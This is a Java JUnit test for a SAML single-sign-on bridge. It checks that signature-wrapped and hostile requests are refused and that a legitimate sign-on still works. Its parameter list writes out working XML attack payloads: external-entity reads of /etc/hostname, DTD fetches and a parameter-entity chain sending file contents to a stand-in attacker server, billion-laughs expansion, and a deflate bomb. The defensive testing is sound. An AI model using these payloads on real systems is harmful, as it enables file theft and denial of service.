package io.hcpnbridge.endtoend.signon;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.hcpnbridge.standin.signon.Certified;
import io.hcpnbridge.standin.signon.PartnerCloud;
import io.hcpnbridge.standin.signon.SignedMessage;
import io.micrometer.core.instrument.MeterRegistry;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/**
 * Messages made to be read differently from how they were signed, or to hurt whoever reads them: a browser with a good session sends each, is
 * refused, and can still sign on by the partner's real request.
 */
@Tag("slow")
@Tag("logins")
@ExtendWith(OutputCaptureExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileMessagesTest {
    private final AtomicInteger visits = new AtomicInteger();
    private HttpServer attacker;
    private Doorstep doorstep;
    private PartnerCloud partner;
    private Certified key;
    private int links;

    @BeforeAll
    void start() throws Exception {
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 5);
        attacker.createContext("/", exchange -> {
            visits.incrementAndGet();
            exchange.sendResponseHeaders(404, -1);
            exchange.close();
        });
        attacker.start();
        doorstep = Doorstep.open(surroundings -> {});
        partner = doorstep.partner().cloud();
        key = doorstep.partner().key();
    }

    @AfterAll
    void stop() {
        doorstep.close();
        attacker.stop(0);
    }

    @ParameterizedTest
    @EnumSource
    void aRequestWrappedAroundASignedOneIsRefused(Wrapping wrapping, CapturedOutput output) throws Exception {
        refusedAndNothingOfItUsed("login", wrapping.around(request(), key), output);
    }

    @ParameterizedTest
    @EnumSource
    void soIsALogoutAroundASignedOne(Wrapping wrapping, CapturedOutput output) throws Exception {
        var logout = partner.logout(address("logout"), Instant.now().truncatedTo(ChronoUnit.SECONDS));

        refusedAndNothingOfItUsed("logout", wrapping.around(logout, key), output);
    }

    /** A signature inside the message counts for nothing by redirect, whatever stands in the query beside it. */
    private void refusedAndNothingOfItUsed(String where, String wrapped, CapturedOutput output) throws Exception {
        assertThat(SignedMessage.hasAnyValidSignature(wrapped, key))
                .as("a careless reader is taken in")
                .isTrue();
        var browser = follow();
        var before = refused("SIGNATURE");
        var queries = queries(wrapped);

        for (var query : queries) {
            var answer = browser.once(address(where) + "?" + query);
            assertThat(answer.statusCode()).isEqualTo(400);
            assertThat(answer.body()).doesNotContain("SAMLResponse", "attacker.example", Wrapping.FORGED_ID);
        }

        assertThat(refused("SIGNATURE") - before).isEqualTo(queries.size());
        assertThat(output.getOut()).doesNotContain("attacker.example", Wrapping.FORGED_ID);
        assertThat(answered(Wrapping.FORGED_ID + "%")).isZero();
        assertSignsOn(browser);
    }

    private List<String> queries(String wrapped) {
        var unsigned = new PartnerCloud.Sent(wrapped, null, PartnerCloud.RSA_SHA256, "s").query();
        var good = partner.sent(request()).query();
        var inside = wrapped.replaceFirst("(?s).*<ds:SignatureValue>([^<]+)<.*", "$1")
                .replaceAll("&#13;|\\s", "");
        return List.of(
                new PartnerCloud.Sent(wrapped, null, null, "s").query(),
                unsigned,
                unsigned + "&Signature=",
                unsigned + "&Signature=" + PartnerCloud.encoded(inside),
                unsigned + good.substring(good.indexOf("&Signature=")),
                new PartnerCloud.Sent(wrapped, Certified.of("auth.partner.example")).query());
    }

    /** Even the partner itself, or whoever has its key, cannot have a document read that fetches, expands or fills the memory. */
    @ParameterizedTest
    @MethodSource
    void aDocumentThatHurtsItsReaderIsRefused(String rule, String before, String inside) throws Exception {
        var elsewhere = "http://127.0.0.1:" + attacker.getAddress().getPort();
        var request = request().replace("</saml2p:AuthnRequest>", inside + "</saml2p:AuthnRequest>");
        var hostile = before.replace("{elsewhere}", elsewhere) + request.replace("{elsewhere}", elsewhere);
        var browser = follow();
        var refused = refused(rule);

        var answer = browser.once(address("login") + "?" + partner.sent(hostile).query());

        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(refused(rule) - refused).isEqualTo(1);
        assertThat(visits).hasValue(0);
        assertSignsOn(browser);
    }

    static Stream<Arguments> aDocumentThatHurtsItsReaderIsRefused() {
        return Stream.of(
                hostile("XML", "external entity", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>", "&e;"),
                hostile("XML", "entity of another host", "<!DOCTYPE a [<!ENTITY e SYSTEM \"{elsewhere}/e\">]>", "&e;"),
                hostile("XML", "external document type", "<!DOCTYPE a SYSTEM \"{elsewhere}/a.dtd\">", ""),
                hostile("XML", "parameter entity", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"{elsewhere}/p.dtd\"> %p;]>", ""),
                hostile(
                        "XML",
                        "parameter entities that send a file away",
                        "<!DOCTYPE a [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % p \"<!ENTITY e SYSTEM '{elsewhere}/?%f;'>\">%p;]>",
                        "&e;"),
                hostile("XML", "billion laughs", "<!DOCTYPE a [" + laughs() + "]>", "&l9;"),
                hostile(
                        "XML",
                        "one long entity, many times",
                        "<!DOCTYPE a [<!ENTITY l \"" + "l".repeat(10_000) + "\">]>",
                        "&l;".repeat(10_000)),
                hostile("XML", "undeclared entity", "", "&unknown;"),
                hostile("SIZE", "deflate bomb", "", " ".repeat(10_000_000)));
    }

    private static Arguments hostile(String rule, String name, String before, String inside) {
        return Arguments.of(rule, Named.of(name, before), Named.of(inside.length() + " characters", inside));
    }

    private static String laughs() {
        return IntStream.rangeClosed(1, 9)
                .mapToObj(n -> "<!ENTITY l%d \"%s\">"
                        .formatted(n, "&l%d;".formatted(n - 1).repeat(10)))
                .reduce("<!ENTITY l0 \"ha\">", String::concat);
    }

    private void assertSignsOn(CustomerBrowser browser) throws Exception {
        var answer =
                browser.once(address("login") + "?" + partner.sent(request()).query());

        assertThat(answer.body()).contains("SAMLResponse").contains(partner.consumer());
    }

    private CustomerBrowser follow() throws Exception {
        var browser = new CustomerBrowser();
        var link = ErpMessage.user(doorstep.bridge(), "H-" + links++, "SIGN-ON", "user-1", "console");
        assertThat(browser.once(link.path("link").asText()).statusCode()).isEqualTo(303);
        return browser;
    }

    private String request() {
        return partner.signOn(address("login"), Instant.now().truncatedTo(ChronoUnit.SECONDS));
    }

    private String address(String what) {
        return doorstep.portal() + "/saml/acme/" + what;
    }

    private double refused(String rule) {
        return doorstep.bridge()
                .bridge()
                .bean(MeterRegistry.class)
                .counter("bridge.sign.on.refused", "rule", rule)
                .count();
    }

    private int answered(String id) {
        return doorstep.bridge()
                .ledger()
                .sql("select count(*) from sign_on_request where request_id like ?")
                .param(id)
                .query(Integer.class)
                .single();
    }
}
